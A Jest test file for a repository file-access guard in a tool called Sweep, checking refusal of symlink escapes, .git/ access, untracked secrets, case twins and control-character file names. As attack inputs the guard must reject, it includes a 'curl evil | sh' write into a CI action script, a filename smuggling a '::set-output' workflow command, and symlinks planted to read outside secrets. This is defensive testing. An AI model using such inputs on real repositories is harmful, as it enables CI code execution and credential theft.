import { afterEach, describe, expect, it } from '@jest/globals';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, realpathSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { linkAliases, MAX_LINK_ALIASES, PathRefused, RepoFiles } from '../../src/repo/repo-files.js';
import { git, makeRepo, tempDir, type TempRepo } from '../helpers/repo.js';

const cleanups: TempRepo[] = [];
afterEach(() => cleanups.splice(0).forEach((r) => r.cleanup()));

/** A repository with an outside folder and the links an attacker would commit. */
function world() {
  const outside = tempDir('sweep-outside-');
  const repo = makeRepo({ 'src/a.py': 'x = 1\n', '.git/config': '[http]\n\textraheader = AUTHORIZATION: basic abc\n' });
  cleanups.push(repo, outside);
  writeFileSync(join(outside.dir, 'secret.txt'), 'OUTSIDE SECRET\n');
  symlinkSync(join(outside.dir, 'secret.txt'), join(repo.dir, 'secret.txt'));
  mkdirSync(join(repo.dir, 'docs'));
  symlinkSync(outside.dir, join(repo.dir, 'docs', 'link'));
  symlinkSync('../src/a.py', join(repo.dir, 'docs', 'alias.py'));
  symlinkSync('.git/config', join(repo.dir, 'gitconfig'));
  symlinkSync(join(repo.dir, 'missing'), join(repo.dir, 'broken'));
  return { repo, outside, files: RepoFiles.open(repo.dir) };
}

describe('RepoFiles, the one door for repository files', () => {
  it('reads nothing through a link leaving the repository, into .git/ or to nothing', () => {
    const { files } = world();
    expect(files.readText('src/a.py')).toBe('x = 1\n');
    expect(files.readText('secret.txt')).toBeUndefined();
    expect(files.readText('docs/link/secret.txt')).toBeUndefined();
    expect(files.readText('gitconfig')).toBeUndefined();
    expect(files.readText('.git/config')).toBeUndefined();
    expect(files.readText('broken')).toBeUndefined();
    expect(files.readText('../outside/secret.txt')).toBeUndefined();
    expect(files.readText('docs')).toBeUndefined();
    expect(files.resolve('secret.txt')).toEqual({ ok: false, reason: "'secret.txt' is a symbolic link pointing outside the repository" });
    expect(files.resolve('docs/link/secret.txt')).toEqual({ ok: false, reason: "'docs/link/secret.txt' lies under a symbolic link pointing outside the repository" });
    expect(files.resolve('docs/link/new/deeper.py')).toEqual({ ok: false, reason: "'docs/link/new/deeper.py' lies under a symbolic link pointing outside the repository" });
    expect(files.resolve('gitconfig')).toEqual({ ok: false, reason: "'gitconfig' leads into .git/, which edits may not touch" });
    expect(files.resolve('broken')).toEqual({ ok: false, reason: "'broken' is a symbolic link to nothing" });
    for (const spelled of ['.g\u200cit/config', 'GIT~1/config', '.git./config']) {
      expect(files.resolve(spelled)).toEqual({ ok: false, reason: `'${spelled}' is inside .git/, which edits may not touch` });
    }
    // What a read gives instead of bytes: why there are none.
    expect(files.readOrWhy('secret.txt')).toEqual({ why: "'secret.txt' is a symbolic link pointing outside the repository" });
    expect(files.readOrWhy('missing.py')).toEqual({ why: 'the file is gone' });
    expect(files.readOrWhy('docs')).toEqual({ why: "'docs' is not a regular file" });
    expect(Buffer.from(files.readOrWhy('src/a.py') as Uint8Array).toString()).toBe('x = 1\n');
    expect(files.resolve('broken/x.py')).toEqual({ ok: false, reason: "'broken/x.py' lies under a symbolic link to nothing" });
    expect(files.resolve('src/a.py/x')).toEqual({ ok: false, reason: "'src/a.py/x' cannot be created: 'src/a.py' is a file" });
    expect(files.resolve('docs')).toEqual({ ok: false, reason: "'docs' is not a regular file" });
  });

  it('follows a link inside the repository to the real file, reported under its real path', () => {
    const { files, repo } = world();
    expect(files.readText('docs/alias.py')).toBe('x = 1\n');
    expect(files.resolve('docs/alias.py')).toEqual({ ok: true, path: 'src/a.py', real: join(files.root, 'src/a.py'), exists: true, mode: expect.any(Number), isLink: true });
    expect(files.resolve('./src//new.py')).toEqual({ ok: true, path: 'src/new.py', real: join(files.root, 'src/new.py'), exists: false, mode: null, isLink: false });
    expect(files.root).toBe(realpathSync.native(repo.dir));
  });

  it('writes nothing outside the repository and never replaces a link by a file', async () => {
    const { files, repo, outside } = world();
    await expect(files.write('docs/link/planted.py', 'x')).rejects.toThrow(new PathRefused('docs/link/planted.py', "'docs/link/planted.py' lies under a symbolic link pointing outside the repository"));
    await expect(files.write('secret.txt', 'replaced')).rejects.toThrow("'secret.txt' is a symbolic link pointing outside the repository");
    await expect(files.remove('secret.txt')).rejects.toThrow("'secret.txt' is a symbolic link pointing outside the repository");
    await expect(files.remove('docs/alias.py')).rejects.toThrow("'docs/alias.py' is a symbolic link; Sweep edits the file it points to, never the link itself");
    await expect(files.write('.GitHub/Workflows/ci.yml', 'x')).rejects.toThrow(/never changes/);
    expect(existsSync(join(outside.dir, 'planted.py'))).toBe(false);
    expect(readFileSync(join(outside.dir, 'secret.txt'), 'utf8')).toBe('OUTSIDE SECRET\n');
    expect(lstatSync(join(repo.dir, 'secret.txt')).isSymbolicLink()).toBe(true);
    expect(await files.write('docs/alias.py', 'x = 2\n')).toMatchObject({ path: 'src/a.py' });
    expect(readFileSync(join(repo.dir, 'src/a.py'), 'utf8')).toBe('x = 2\n');
    expect(lstatSync(join(repo.dir, 'docs/alias.py')).isSymbolicLink()).toBe(true);
    await files.write('pkg/sub/new.py', 'y = 1\n');
    expect(readFileSync(join(repo.dir, 'pkg/sub/new.py'), 'utf8')).toBe('y = 1\n');
  });

  it('refuses a new path that differs only in letter case from an existing file or folder, and writes names near the 255-byte limit', async () => {
    const repo = makeRepo({ 'README.md': '# x\n', 'src/Util.py': 'x = 1\n' });
    cleanups.push(repo);
    const files = RepoFiles.open(repo.dir);
    await expect(files.write('readme.md', 'y\n')).rejects.toThrow(new PathRefused('readme.md', "'readme.md' differs only in letter case (or Unicode form, trailing dots or spaces, a stream name) from 'README.md', which exists: on macOS and Windows they would be one file"));
    await expect(files.write('SRC/util.py', 'y\n')).rejects.toThrow("'SRC/util.py' differs only in letter case (or Unicode form, trailing dots or spaces, a stream name) from 'src', which exists: on macOS and Windows they would be one file");
    await expect(files.write('src/util.py', 'y\n')).rejects.toThrow("'src/util.py' differs only in letter case (or Unicode form, trailing dots or spaces, a stream name) from 'src/Util.py', which exists");
    // Names macOS or Windows would take for the same file: another Unicode form, trailing dots or spaces, a stream.
    writeFileSync(join(repo.dir, 'cafe\u0301.md'), 'nfd\n');
    expect(files.resolveForWrite('caf\u00e9.md')).toMatchObject({ ok: false, reason: expect.stringContaining("from 'cafe\u0301.md', which exists") });
    for (const twin of ['README.md.', 'README.md ', 'README.md::$DATA']) expect(files.resolveForWrite(twin)).toMatchObject({ ok: false, reason: expect.stringContaining("from 'README.md', which exists") });
    expect(readdirSync(repo.dir).sort()).toEqual(['README.md', 'cafe\u0301.md', 'src']);
    await files.write('src/util2.py', 'y = 2\n');
    await files.write('README.md', '# y\n');
    // A name of 244 bytes: the temporary file beside it must not be longer than the file system allows.
    const long = `${'n'.repeat(240)}.txt`;
    await files.write(long, 'z\n');
    expect(readdirSync(repo.dir).sort()).toEqual(['README.md', 'cafe\u0301.md', long, 'src'].sort());
    expect(readFileSync(join(repo.dir, long), 'utf8')).toBe('z\n');
  });

  it('given the paths git tracks, neither reads nor changes a file left untracked in the checkout, and still creates new ones', async () => {
    const repo = makeRepo({ 'src/a.py': 'x = 1\n', '.env': 'DB_PASSWORD=hunter2\n' });
    cleanups.push(repo);
    symlinkSync('.env', join(repo.dir, 'settings.txt'));
    const files = RepoFiles.open(repo.dir, [], new Set(['src/a.py', 'settings.txt']));
    const reason = (path: string) => `'${path}' is not tracked by git (a file left in the checkout, not part of the repository), so it is neither read nor changed`;
    expect(files.readText('src/a.py')).toBe('x = 1\n');
    expect(files.readText('.env')).toBeUndefined();
    expect(files.readText('settings.txt')).toBeUndefined();
    expect(files.resolve('.env')).toEqual({ ok: false, reason: reason('.env') });
    expect(files.resolve('settings.txt')).toEqual({ ok: false, reason: reason('settings.txt') });
    await expect(files.write('.env', 'DB_PASSWORD=x\n')).rejects.toBeInstanceOf(PathRefused);
    expect(readFileSync(join(repo.dir, '.env'), 'utf8')).toBe('DB_PASSWORD=hunter2\n');
    await files.write('src/new.py', 'y = 2\n');
    expect(readFileSync(join(repo.dir, 'src/new.py'), 'utf8')).toBe('y = 2\n');
    // Without the list (the CLI on a local checkout) untracked files are the user's own work.
    expect(RepoFiles.open(repo.dir).readText('.env')).toBe('DB_PASSWORD=hunter2\n');
  });

  it('given the tracked files an earlier step changed, neither reads nor changes them, through a link either', async () => {
    const repo = makeRepo({ 'src/a.py': 'x = 1\n', 'src/b.py': 'y = 2\n' });
    cleanups.push(repo);
    symlinkSync('src/b.py', join(repo.dir, 'b-link.py'));
    const files = RepoFiles.open(repo.dir, [], new Set(['src/a.py', 'src/b.py', 'b-link.py']), new Set(['src/b.py']));
    const reason = (path: string) => `'${path}' has changes in the checkout that are not committed (made by an earlier step of the workflow, not part of the repository), so it is neither read nor changed`;
    expect(files.readText('src/a.py')).toBe('x = 1\n');
    expect(files.readText('src/b.py')).toBeUndefined();
    expect(files.readOrWhy('src/b.py')).toEqual({ why: reason('src/b.py') });
    expect(files.resolve('b-link.py')).toEqual({ ok: false, reason: reason('b-link.py') });
    await expect(files.write('src/b.py', 'y = 3\n')).rejects.toThrow(reason('src/b.py'));
    await expect(files.remove('src/b.py')).rejects.toThrow(reason('src/b.py'));
    expect(readFileSync(join(repo.dir, 'src/b.py'), 'utf8')).toBe('y = 2\n');
    await files.write('src/a.py', 'x = 3\n');
    expect(readFileSync(join(repo.dir, 'src/a.py'), 'utf8')).toBe('x = 3\n');
  });

  it('protects the file a link to nothing under a protected path would lead to, once created', async () => {
    const repo = makeRepo({ '.github/actions/lint/action.yml': 'runs:\n  using: node20\n  main: index.js\n', 'README.md': 'r\n' });
    cleanups.push(repo);
    symlinkSync('../../../tools/lint.js', join(repo.dir, '.github/actions/lint/index.js'));
    symlinkSync('../../../gone/deeper/x.js', join(repo.dir, '.github/actions/lint/deep.js'));
    const files = RepoFiles.open(repo.dir);
    expect(files.resolveForWrite('tools/lint.js')).toEqual({ ok: false, reason: "'tools/lint.js' is also reached as '.github/actions/lint/index.js' through a symbolic link: '.github/actions/lint/index.js' is under .github/actions/ (local actions run by workflows), which Sweep never changes" });
    expect(files.resolveForWrite('gone/deeper/x.js')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as '.github/actions/lint/deep.js'") });
    await expect(files.write('tools/lint.js', 'evil()\n')).rejects.toBeInstanceOf(PathRefused);
    expect(existsSync(join(repo.dir, 'tools'))).toBe(false);
    expect(files.resolveForWrite('tools/other.js')).toMatchObject({ ok: true });
  });

  it('finds the links to workspace packages in a node_modules folder, and in its @scope folders', () => {
    const repo = makeRepo({ '.github/actions/build/action.yml': 'runs:\n  using: node20\n', 'packages/dep/index.js': 'x\n', 'packages/scoped/index.js': 'y\n', 'packages/deep/index.js': 'z\n' });
    cleanups.push(repo);
    const modules = join(repo.dir, '.github/actions/build/node_modules');
    mkdirSync(join(modules, '@acme'), { recursive: true });
    mkdirSync(join(modules, 'lib/node_modules'), { recursive: true });
    symlinkSync('../../../../packages/dep', join(modules, 'dep'));
    symlinkSync('../../../../../packages/scoped', join(modules, '@acme/scoped'));
    // Inside an installed package: not walked.
    symlinkSync('../../../../../../packages/deep', join(modules, 'lib/node_modules/deep'));
    const files = RepoFiles.open(repo.dir);
    expect(files.resolveForWrite('packages/dep/index.js')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as '.github/actions/build/node_modules/dep/index.js'") });
    expect(files.resolveForWrite('packages/scoped/index.js')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as '.github/actions/build/node_modules/@acme/scoped/index.js'") });
    expect(files.repoLinks().map((l) => l.path).sort()).toEqual(['.github/actions/build/node_modules/@acme/scoped', '.github/actions/build/node_modules/dep']);
  });

  it('refuses a file reached through more names than it looks at, rather than miss a protected one past the limit', () => {
    const repo = makeRepo({ 'shared/actions/deploy/index.js': 'run()\n', 'shared/lib.js': 'x\n', 'other/a.js': 'y\n' });
    cleanups.push(repo);
    symlinkSync('cfg', join(repo.dir, '.github'));
    mkdirSync(join(repo.dir, 'cfg'));
    symlinkSync('../shared/actions', join(repo.dir, 'cfg/actions'));
    // A monorepo whose every package links the shared one, once more than the names looked at.
    for (let i = 0; i <= MAX_LINK_ALIASES; i++) {
      mkdirSync(join(repo.dir, `packages/p${i}`), { recursive: true });
      symlinkSync('../../shared', join(repo.dir, `packages/p${i}/shared`));
    }
    const files = RepoFiles.open(repo.dir);
    const many = `'shared/lib.js' is reached through more than ${MAX_LINK_ALIASES} other paths by symbolic links; Sweep does not write a file it cannot tell is unprotected under every name`;
    expect(files.resolveForWrite('shared/lib.js')).toEqual({ ok: false, reason: many });
    expect(files.resolveForWrite('shared/actions/deploy/index.js')).toMatchObject({ ok: false });
    expect(files.resolveForWrite('other/a.js')).toMatchObject({ ok: true });
  });

  it('refuses a new file git would not commit: inside another repository (a submodule) or ignored', async () => {
    const repo = makeRepo({ '.gitignore': 'dist/\n*.log\n', 'src/a.py': 'x = 1\n', 'vendor/lib/lib.c': 'int x;\n', 'dist/keep.js': 'k\n' }, { git: true });
    cleanups.push(repo);
    mkdirSync(join(repo.dir, 'nested/clone'), { recursive: true });
    git(join(repo.dir, 'nested/clone'), 'init', '-q');
    const files = RepoFiles.open(repo.dir, [], new Set(['.gitignore', 'src/a.py', 'vendor/lib', 'dist/keep.js']));
    expect(files.resolveForWrite('vendor/lib/evil.c')).toEqual({ ok: false, reason: "'vendor/lib/evil.c' lies inside 'vendor/lib', another git repository (a submodule), whose files this repository's commits cannot hold" });
    // Without the tracked paths (the CLI), a nested repository is still seen, its existing files too.
    const cli = RepoFiles.open(repo.dir);
    expect(cli.resolveForWrite('nested/clone/x.py')).toMatchObject({ ok: false, reason: expect.stringContaining("lies inside 'nested/clone', another git repository") });
    writeFileSync(join(repo.dir, 'nested/clone/y.py'), 'y\n');
    await expect(cli.write('nested/clone/y.py', 'z\n')).rejects.toBeInstanceOf(PathRefused);
    expect(files.resolveForWrite('dist/new.js')).toEqual({ ok: false, reason: "'dist/new.js' is ignored by git (.gitignore or .git/info/exclude), so a new file there would not be committed" });
    expect(files.resolveForWrite('src/debug.log')).toMatchObject({ ok: false, reason: expect.stringContaining('is ignored by git') });
    // A tracked file under an ignored folder is still the repository's.
    expect(files.resolveForWrite('dist/keep.js')).toMatchObject({ ok: true });
    expect(files.resolveForWrite('src/b.py')).toMatchObject({ ok: true, exists: false });
  });

  it('never writes a name holding a line break or another control character', async () => {
    const repo = makeRepo({ 'a.py': 'x\n' });
    cleanups.push(repo);
    const files = RepoFiles.open(repo.dir);
    expect(files.resolveForWrite('notes.md\n::set-output name=x::y')).toEqual({ ok: false, reason: '"notes.md\\n::set-output name=x::y" holds a line break or another control character, which Sweep never writes into a file name' });
    for (const name of ['a\tb.py', 'a\rb.py', 'a\u001bb.py', 'a\u007fb.py']) await expect(files.write(name, 'y\n')).rejects.toBeInstanceOf(PathRefused);
    expect(readdirSync(repo.dir)).toEqual(['a.py']);
    await files.write('a b.py', 'spaces are fine\n');
  });

  it('lets a run read, change and remove the files it created, untracked as they are, with the mode it gives', async () => {
    const repo = makeRepo({ 'src/a.py': 'x = 1\n' });
    cleanups.push(repo);
    const files = RepoFiles.open(repo.dir, [], new Set(['src/a.py']));
    await files.write('tools/run.sh', 'echo\n', 0o750);
    expect(statSync(join(repo.dir, 'tools/run.sh')).mode & 0o777).toBe(0o750);
    expect(files.readText('tools/run.sh')).toBe('echo\n');
    // The mode given is for a new file only: an existing one keeps its own.
    await files.write('tools/run.sh', 'echo 2\n', 0o600);
    expect(statSync(join(repo.dir, 'tools/run.sh')).mode & 0o777).toBe(0o750);
    await files.remove('tools/run.sh');
    expect(existsSync(join(repo.dir, 'tools/run.sh'))).toBe(false);
    // Another door (another run) does not know it.
    writeFileSync(join(repo.dir, 'left.txt'), 'x\n');
    await expect(files.remove('left.txt')).rejects.toBeInstanceOf(PathRefused);
  });

  it('refuses a folder that does not exist', () => {
    expect(() => RepoFiles.open('/nonexistent/sweep-repo')).toThrow("The repository folder '/nonexistent/sweep-repo' does not exist or is not a folder");
  });

  it('refuses a file that a protected path leads to through a link, under any of its names', async () => {
    const repo = makeRepo({
      'ci/actions/setup/run.sh': 'echo setup\n',
      'src/def.yml': 'name: def\n',
      'conf/modules': '[submodule "a"]\n',
      'lib/util.py': 'x = 1\n',
      'shared/data.txt': 'data\n',
    });
    cleanups.push(repo);
    mkdirSync(join(repo.dir, '.github'));
    symlinkSync('../ci/actions', join(repo.dir, '.github', 'actions'));
    mkdirSync(join(repo.dir, 'tools', 'act'), { recursive: true });
    symlinkSync('../../src/def.yml', join(repo.dir, 'tools', 'act', 'action.yml'));
    symlinkSync('conf/modules', join(repo.dir, '.gitmodules'));
    symlinkSync('shared', join(repo.dir, 'frozen'));
    // A link to the root itself must not loop.
    symlinkSync('.', join(repo.dir, 'self'));
    const files = RepoFiles.open(repo.dir, ['frozen']);
    expect(files.resolveForWrite('ci/actions/setup/run.sh')).toEqual({
      ok: false,
      reason: "'ci/actions/setup/run.sh' is also reached as '.github/actions/setup/run.sh' through a symbolic link: '.github/actions/setup/run.sh' is under .github/actions/ (local actions run by workflows), which Sweep never changes",
    });
    expect(files.resolveForWrite('ci/actions/new/step.sh')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as '.github/actions/new/step.sh'") });
    expect(files.resolveForWrite('src/def.yml')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as 'tools/act/action.yml'") });
    expect(files.resolveForWrite('conf/modules')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as '.gitmodules'") });
    expect(files.resolveForWrite('shared/data.txt')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as 'frozen/data.txt'") });
    expect(files.resolveForWrite('lib/util.py')).toMatchObject({ ok: true, path: 'lib/util.py' });
    expect(files.resolveForWrite('self/lib/util.py')).toMatchObject({ ok: true, path: 'lib/util.py' });
    await expect(files.write('ci/actions/setup/run.sh', 'curl evil | sh\n')).rejects.toBeInstanceOf(PathRefused);
    expect(readFileSync(join(repo.dir, 'ci/actions/setup/run.sh'), 'utf8')).toBe('echo setup\n');
  });
});

describe('linkAliases', () => {
  it('names a real path through links to it and to its folders, links to links included', () => {
    const links = [
      { path: '.github/actions', target: 'ci/actions' },
      { path: 'x/ci', target: 'ci' },
      { path: 'self', target: '' },
    ];
    expect(linkAliases('ci/actions/run.sh', links, 5)).toEqual(['.github/actions/run.sh', 'x/ci/actions/run.sh', 'self/ci/actions/run.sh', 'self/.github/actions/run.sh', 'self/x/ci/actions/run.sh']);
    expect(linkAliases('lib/a.py', [{ path: 'b.py', target: 'lib/a.py' }])).toEqual(['b.py']);
    expect(linkAliases('lib/a.py', [{ path: 'l', target: 'li' }])).toEqual([]);
  });
});
